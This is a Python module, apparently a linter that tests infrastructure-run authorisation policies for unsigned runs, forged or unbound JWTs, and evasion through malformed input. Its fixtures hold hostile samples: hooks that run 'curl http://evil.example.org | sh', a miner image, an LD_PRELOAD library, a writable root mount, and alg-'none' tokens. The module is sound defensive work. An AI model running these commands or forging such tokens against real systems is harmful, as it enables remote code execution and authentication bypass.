"""
Finds policies that let runs through which nobody has proven.

The policy is asked about inputs that a hostile control plane could bring about,
and about some that it could not, since tomorrow's launcher might.  Three things
are wrong with an answer:

- *Unsigned*: a run is let in whatever is in its metadata.
- *Evaded*: a run is denied, and the same run is let in when something the policy
  looked at is missing, empty or of a type it does not expect.  Such a rule asks
  for a reason to deny, and an undefined value is none.
- *Unbound*: a run is let in for a token whose signature is good, and that was made
  for something else.  Nobody can sign here, so a second engine is asked, the same
  policy to which every signature is good.

What is found is shown with the input that was let in, so there are no guesses.
"""

from __future__ import annotations

import base64
import copy
import enum
import json

from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import msgspec

from launcher.policy import Outcome, PolicyEngine
from launcher.policytools import schema, specimens
from launcher.policytools.opa import PolicyText
from launcher.policytools.specimens import Document
from launcher.wire.jobs import Hooks, Phase, RunType, Variable


class Check(enum.StrEnum):
    UNSIGNED_RUN = "unsigned-run"
    UNBOUND_TOKEN = "unbound-token"  # noqa: S105 (the name of a check)
    EVADED = "evaded"
    DEFAULT_IMAGE = "default-image"
    UNKNOWN_INPUT = "unknown-input"
    NEVER_TRUE = "never-true"
    NO_ANSWER = "no-answer"


@dataclass(frozen=True, slots=True, kw_only=True)
class Finding:
    check: Check
    sentence: str
    input: Mapping[str, Any] | None = None
    """What the policy let in; None where the text alone is the proof."""
    place: str = ""


_METADATA = "run.user_provided_metadata"
_MISSING = object()


def lint(
    engine: PolicyEngine,
    text: PolicyText | None,
    ignored: Iterable[Check] = (),
    *,
    trusting: PolicyEngine | None = None,
) -> list[Finding]:
    """
    Ask *engine* and read *text*.

    *trusting* is the same policy, to which the signature of every token is good.

    Raises:
        PolicyUnusable: OPA cannot read the text.
    """
    skipped = frozenset(ignored)
    asked = _Asked(engine)
    findings = [*_by_text(text), *_unsigned(asked)]
    if trusting is not None:
        findings += _unbound(asked, trusting)
    findings += [*_evaded(asked), *_answers(asked)]
    return [finding for finding in findings if finding.check not in skipped]


class _Asked:
    """The engine, and what came of the ordinary runs."""

    def __init__(self, engine: PolicyEngine) -> None:
        self._engine = engine
        self.bases = list(_bases())
        self.answers = [engine.evaluate(base.document) for base in self.bases]

    def allows(self, document: Document) -> bool:
        return self._engine.evaluate(document).allowed

    def denied(self) -> Iterator[_Base]:
        """One run for each set of reasons, since more would teach nothing new."""
        known = set()
        for base, answer in zip(self.bases, self.answers, strict=True):
            if answer.outcome is Outcome.DENY and answer.deny not in known:
                known.add(answer.deny)
                yield base


def _by_text(text: PolicyText | None) -> Iterator[Finding]:
    if text is None:
        return
    for mistake in text.mistakes(schema.schema()):
        unknown = " is never there" in mistake.sentence
        yield Finding(
            check=Check.UNKNOWN_INPUT if unknown else Check.NEVER_TRUE,
            sentence=mistake.sentence,
            place=str(mistake.place),
        )


def _answers(asked: _Asked) -> Iterator[Finding]:
    """A policy that fails on ordinary runs denies them all, for no stated reason."""
    for base, answer in zip(asked.bases, asked.answers, strict=True):
        if answer.outcome is Outcome.ERROR:
            yield Finding(
                check=Check.NO_ANSWER,
                sentence=f"the policy gives no answer about {base.name}, which"
                f" denies it: {answer.error}",
                input=base.document,
            )
            return


def _unsigned(asked: _Asked) -> Iterator[Finding]:
    """Runs that carry no proof, or something in the place of one."""
    for phase, base in _PROVABLE.items():
        let_in = [
            (name, document)
            for name, metadata in _unproven(base.document)
            if asked.allows(document := _with(base.document, _METADATA, metadata))
        ]
        if len(let_in) == len(list(_unproven(base.document))):
            yield Finding(
                check=Check.UNSIGNED_RUN,
                sentence=f"this policy allows an unsigned run to {phase}, whatever"
                " its metadata is",
                input=let_in[0][1],
            )
            continue
        for name, document in let_in:
            yield Finding(
                check=Check.UNSIGNED_RUN,
                sentence=f"this policy allows an unsigned run to {phase}: its metadata"
                f" is {name}",
                input=document,
            )


def _unbound(asked: _Asked, trusting: PolicyEngine) -> Iterator[Finding]:
    """Runs that a good signature under something else lets in."""
    for phase, base in _PROVABLE.items():
        for name, token in _made_for_something_else(base.document):
            for metadata in ([token], ["anything", token], [token, "anything"]):
                document = _with(base.document, _METADATA, metadata)
                if not trusting.evaluate(document).allowed or asked.allows(document):
                    continue
                yield Finding(
                    check=Check.UNBOUND_TOKEN,
                    sentence=f"this policy allows a run to {phase} for any token with"
                    f" a good signature, were it {name}",
                    input=document,
                )
                break
            else:
                continue
            break


def _evaded(asked: _Asked) -> Iterator[Finding]:
    """Runs that are denied, until something is not as the policy expects it."""
    known: set[str] = set()
    for base in asked.denied():
        evasions: dict[str, list[tuple[str, Document]]] = {}
        for path, kind, document in _damaged(base.document):
            if asked.allows(document):
                evasions.setdefault(path, []).append((kind, document))
        for path, found in evasions.items():
            # That run.type can be missing says that run can, too.
            deeper = any(other.startswith(f"{path}.") for other in evasions)
            if path in known or deeper:
                continue
            known.add(path)
            kinds = _either(kind for kind, _ in found)
            yield Finding(
                check=Check.EVADED,
                sentence=f"this policy denies {base.name}, and allows it when"
                f" input.{path} is {kinds}",
                input=found[-1][1],
            )
        nameless = _with(base.document, "docker_image", "")
        if base.document["docker_image"] and asked.allows(nameless):
            yield Finding(
                check=Check.DEFAULT_IMAGE,
                sentence=f"this policy denies {base.name}, and allows it when it names"
                " no image: judge docker_image_reference, which is never empty",
                input=nameless,
            )


def _either(names: Iterable[str]) -> str:
    *most, last = names
    return f"{', '.join(most)} or {last}" if most else last


@dataclass(frozen=True, slots=True)
class _Base:
    """An ordinary run, or one with something that a policy may object to."""

    name: str
    document: Document


_SUSPECT = "http://evil.example.org"
_PHASES = {
    (RunType.PROPOSED, Phase.PLAN): "a proposed run's plan",
    (RunType.TRACKED, Phase.PLAN): "a tracked run's plan",
    (RunType.TRACKED, Phase.APPLY): "a tracked run's apply",
    (RunType.TASK, Phase.PERFORM): "a task",
    (RunType.TESTING, Phase.PLAN): "a test's plan",
    (RunType.DESTROY, Phase.DESTROY): "the destruction of a stack",
}


def _bases() -> Iterator[_Base]:
    for (run_type, phase), name in _PHASES.items():
        yield _Base(name, _ordinary(run_type, phase))
    for run_type, phase in (
        (RunType.TRACKED, Phase.PLAN),
        (RunType.TRACKED, Phase.APPLY),
    ):
        for name, change in _SUSPICIOUS.items():
            document = _ordinary(run_type, phase)
            change(document)
            yield _Base(f"{name} ({phase})", document)


def _ordinary(run_type: RunType, phase: Phase) -> Document:
    command = "terraform state list" if run_type is RunType.TASK else ""
    run = msgspec.structs.replace(specimens.BARE.run, type=run_type, command=command)
    job = msgspec.structs.replace(
        specimens.BARE,
        phases=(Phase.INITIALIZE, phase) if phase is not Phase.APPLY else (phase,),
        run=run,
        docker_image="registry.example.com/runner:1",
        environment=(Variable(name="PLAIN", value="plain"),),
    )
    document = specimens.document_of(job)
    document["run"]["user_provided_metadata"] = ["anything"] * (
        2 if phase is Phase.APPLY else 1
    )
    return document


def _image(document: Document) -> None:
    document["docker_image"] = "evil.example.org/miner:latest"
    document["docker_image_reference"] = "evil.example.org/miner:latest"


def _hooks(document: Document) -> None:
    for name in Hooks.__struct_fields__:
        document["static_run_environment"][name] = [f"curl {_SUSPECT} | sh"]


def _branch(document: Document) -> None:
    document["run"]["commit"]["branch"] = "evil"
    document["static_run_environment"]["commit_branch"] = "evil"


def _stack(document: Document) -> None:
    static = document["static_run_environment"]
    static |= {"stack_slug": "evil", "stack_name": "Evil", "space": "evil"}
    static |= {"repository_path": "evil/evil", "source_url": f"{_SUSPECT}/evil.git"}


def _variables(document: Document) -> None:
    static = document["static_run_environment"]
    static["environment_variables"]["LD_PRELOAD"] = "/mnt/workspace/evil.so"
    static["variables"] = [{"name": "LD_PRELOAD", "secret": True, "scope": "always"}]


def _mounts(document: Document) -> None:
    document["static_run_environment"]["extra_mounts"] = [
        {"source": "/", "target": "/host", "read_only": False}
    ]


def _person(document: Document) -> None:
    document["run"]["triggered_by"] = "evil"
    document["run"]["commit"]["author"] = "evil"
    document["run"]["based_on_local_workspace"] = True


_SUSPICIOUS: Mapping[str, Callable[[Document], None]] = {
    "an image from elsewhere": _image,
    "hooks that fetch and run a script": _hooks,
    "a commit on another branch": _branch,
    "another stack and repository": _stack,
    "a variable LD_PRELOAD": _variables,
    "the machine's root directory mounted": _mounts,
    "another person's local workspace": _person,
}

_PROVABLE = {
    phase: _Base(_PHASES[RunType.TRACKED, phase], _ordinary(RunType.TRACKED, phase))
    for phase in (Phase.PLAN, Phase.APPLY)
}


def _unproven(document: Document) -> Iterator[tuple[str, Any]]:
    """What is no signature by anybody, and looks more and more like one."""
    forged = list(_forged(document))
    yield "missing", _MISSING
    yield "null", None
    yield "an empty list", []
    yield "an empty text", ""
    yield "a text", "garbage"
    yield "a number", 0
    yield "true", True
    yield "an object", {}
    yield "an object of entries", {"0": forged[-1][1]}
    entries: list[tuple[str, Any]] = [
        ("null", None),
        ("a number", 1),
        ("true", True),
        ("an object", {}),
        ("a list", []),
        ("an empty text", ""),
        ("garbage", "garbage"),
        ("two dots", ".."),
        ("garbage like a token", "a.b.c"),
        ("64 KiB of garbage", "A" * (64 << 10)),
        *forged,
    ]
    for name, entry in entries:
        yield f"one entry, {name}", [entry]
        yield f"two entries, the last one {name}", ["garbage", entry]
        yield f"two entries, the first one {name}", [entry, "garbage"]
        yield f"the same entry twice, {name}", [entry, entry]


def _forged(document: Document) -> Iterator[tuple[str, str]]:
    """Tokens that claim the right things, and were signed by nobody."""
    claims = _claims(document)
    for algorithm in ("none", "None", "HS256", "ES256", "EdDSA"):
        header = {"alg": algorithm, "typ": "spacelift-run+jwt", "kid": "unknown"}
        signed = f"{_part(header)}.{_part(claims)}"
        yield f"a token with alg {algorithm} and no signature", f"{signed}."
        yield f"a token with alg {algorithm} and a made-up signature", f"{signed}.AAAA"
    empty = f"{_part({'alg': 'none'})}.{_part({})}."
    yield "a token without claims", empty


def _made_for_something_else(document: Document) -> Iterator[tuple[str, str]]:
    """Tokens to whose claims nobody who meant this run would have signed."""
    claims = _claims(document)
    other = claims | {
        "sub": "0" * 40,
        "spacelift_stack": "another",
        "stack": "another",
        "commit": "0" * 40,
        "run_type": "ANOTHER",
        "phase": "another",
        "run": "01ANOTHER",
    }
    for algorithm in ("HS256", "RS256", "PS256", "ES256", "EdDSA"):
        header = _part({"alg": algorithm, "typ": "spacelift-run+jwt", "kid": "unknown"})
        for name, content in (
            ("one without claims", {}),
            ("one that expired long ago", claims | {"iat": 0, "exp": 1}),
            ("one for another run of another stack", other),
        ):
            yield name, f"{header}.{_part(content)}.AAAA"


def _claims(document: Document) -> dict[str, Any]:
    """What a signer would state of this run, as far as anybody can guess."""
    run, static = document["run"], document["static_run_environment"]
    return {
        "iss": "GitHub Actions",
        "iat": run["created_at"] // 1_000_000_000,
        "exp": 4_102_444_800,
        "jti": "0123456789abcdef0123",
        "sub": run["commit"]["hash"],
        "spacelift_stack": static["stack_slug"],
        "stack": static["stack_slug"],
        "commit": run["commit"]["hash"],
        "run_type": run["type"],
        "phase": document["phase"],
        "run": run["id"],
        "hooks": "sha256:" + "0" * 64,
    }


def _part(content: Mapping[str, Any]) -> str:
    text = json.dumps(content).encode()
    return base64.urlsafe_b64encode(text).rstrip(b"=").decode()


def _damaged(document: Document) -> Iterator[tuple[str, str, Document]]:
    """*document* with one thing in it as it should not be."""
    described = schema.schema()
    for path in schema.paths(described):
        if "[]" in path or path == _METADATA:
            continue
        kinds = _types(described, path)
        yield path, "missing", _with(document, path, _MISSING)
        if "null" not in kinds:
            yield path, "null", _with(document, path, None)
        for name, value in (
            ("a number", 7),
            ("a text", "surprise"),
            ("true", True),
            ("an empty list", []),
            ("an empty object", {}),
        ):
            if _KIND[name] not in kinds:
                yield path, name, _with(document, path, value)
        if path in schema.ENUMS:
            yield path, "something new", _with(document, path, "surprise")
    yield "run.type", "something new in run_type, too", _with_type(document, "SURPRISE")


_KIND = {
    "a number": "integer",
    "a text": "string",
    "true": "boolean",
    "an empty list": "array",
    "an empty object": "object",
}


def _types(described: Mapping[str, Any], path: str) -> list[str]:
    for name in path.split("."):
        described = described["properties"][name]
    kinds = described["type"]
    return [kinds] if isinstance(kinds, str) else list(kinds)


def _with(document: Document, path: str, value: object) -> Document:
    changed = copy.deepcopy(document)
    *above, last = path.split(".")
    here = changed
    for name in above:
        here = here[name]
    if value is _MISSING:
        here.pop(last, None)
    else:
        here[last] = value
    return changed


def _with_type(document: Document, run_type: str) -> Document:
    changed = _with(document, "run.type", run_type)
    return _with(changed, "static_run_environment.run_type", run_type)
